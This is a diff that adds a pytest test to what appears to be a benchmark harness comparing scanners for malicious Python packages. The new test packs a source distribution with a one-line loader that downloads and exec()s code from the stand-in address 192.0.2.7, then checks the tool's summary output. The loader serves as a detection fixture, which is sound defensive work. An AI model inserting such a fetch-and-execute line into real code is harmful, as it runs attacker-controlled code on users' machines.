@@ -94,3 +94,10 @@ def test_others_are_measured_beside_it_and_leave_nothing(tmp_path: Path) -> None
     assert rows["pratique"] == ["0", "0", "0", "0"]
     assert rows["guarddog"] == ["1", "0", "0", "0"]
     assert rows["hexora"] == ["0", "1", "0", "0"]
+
+
+def test_the_sieve_is_compared_with_everything_parsed(tmp_path: Path) -> None:
+    """What is reported either way is not lost."""
+    loader = "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/a').read())\n"
+    (tmp_path / "a-1.tar.gz").write_bytes(_sdist(loader))
+    assert "1 distributions: 0 findings lost by the sieve, 0 verdicts changed" in _bench("sieve.py", tmp_path)
